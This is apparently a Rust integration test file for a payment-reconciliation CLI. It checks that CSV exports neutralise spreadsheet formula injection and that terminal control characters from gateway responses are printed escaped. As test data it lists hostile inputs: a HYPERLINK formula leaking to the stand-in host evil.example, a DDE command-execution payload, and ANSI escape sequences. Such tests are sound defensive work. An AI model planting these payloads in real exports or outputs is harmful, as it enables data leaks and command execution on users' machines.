//! What the CLI prints is safe to open and to look at (issue 14 item 3), through the binary:
//! order numbers a spreadsheet would run as formulas come out of `ledger list --format csv` as
//! text, and gateway text with terminal control characters is shown escaped by `ledger show`.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_payrecon");

fn config(dir: &Path) -> PathBuf {
    let path = dir.join("payrecon.toml");
    std::fs::write(
        &path,
        format!(
            r#"
[ledger]
path = "{}"

[[accounts]]
name = "hk"
provider = "qfpay"
base_url = "https://test-openapi-hk.qfapi.com"
app_code = "APPCODE"
client_key = "not-a-real-key"
"#,
            dir.join("ledger.db").display()
        ),
    )
    .unwrap();
    path
}

fn run(cfg: &Path, args: &[&str]) -> Output {
    Command::new(BIN)
        .arg("--config")
        .arg(cfg)
        .args(args)
        .env_remove("RUST_LOG")
        .output()
        .unwrap()
}

fn track(cfg: &Path, out_trade_no: &str) {
    let o = run(
        cfg,
        &[
            "track",
            "--account",
            "hk",
            &format!("--out-trade-no={out_trade_no}"),
            "--amount",
            "1000",
            "--currency",
            "HKD",
            "--pay-type",
            "800101",
        ],
    );
    assert!(
        o.status.success(),
        "track {out_trade_no:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn formulas_in_order_numbers_come_out_of_csv_exports_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path());
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?leak\")",
        "+1+cmd|'/C.calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "SAFE-1",
    ];
    for no in hostile {
        track(&cfg, no);
    }
    let o = run(&cfg, &["ledger", "list", "--format", "csv"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let mut rdr = csv::Reader::from_reader(&o.stdout[..]);
    let headers = rdr.headers().unwrap().clone();
    let col = headers.iter().position(|h| h == "out_trade_no").unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), hostile.len());
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<i64>().is_ok(),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    let got: Vec<&str> = rows.iter().map(|r| &r[col]).collect();
    for no in hostile {
        let want = if no == "SAFE-1" {
            no.to_string()
        } else {
            format!("'{no}")
        };
        assert!(got.contains(&want.as_str()), "{want:?} not in {got:?}");
    }
}

#[tokio::test]
async fn gateway_text_with_control_characters_is_shown_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path());
    track(&cfg, "O-1");
    // What a hostile or broken gateway could have answered, stored as the engine stores it.
    let pool = sqlx::SqlitePool::connect(&format!(
        "sqlite://{}",
        dir.path().join("ledger.db").display()
    ))
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO events (payment_id, at, kind, from_state, to_state, provider_code, message, evidence)
         SELECT id, '2026-11-20T10:00:00.000Z', 'observed', 'pending', 'in_progress', ?, ?, ? FROM payments",
    )
    .bind("\u{1b}[2J")
    .bind("\u{1b}]0;owned\u{7}paid\r")
    .bind(serde_json::json!({"errmsg": "\u{9b}31mred\u{7f}"}).to_string())
    .execute(&pool)
    .await
    .unwrap();
    pool.close().await;

    let o = run(&cfg, &["ledger", "show", "O-1"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = String::from_utf8(o.stdout).unwrap();
    let bad: Vec<char> = out
        .chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect();
    assert!(bad.is_empty(), "control characters {bad:?} printed:\n{out}");
    for shown in [
        "\\u{1b}[2J",
        "\\u{1b}]0;owned\\u{7}paid\\r",
        "\\u{9b}31mred\\u{7f}",
    ] {
        assert!(out.contains(shown), "{shown} missing from:\n{out}");
    }
}
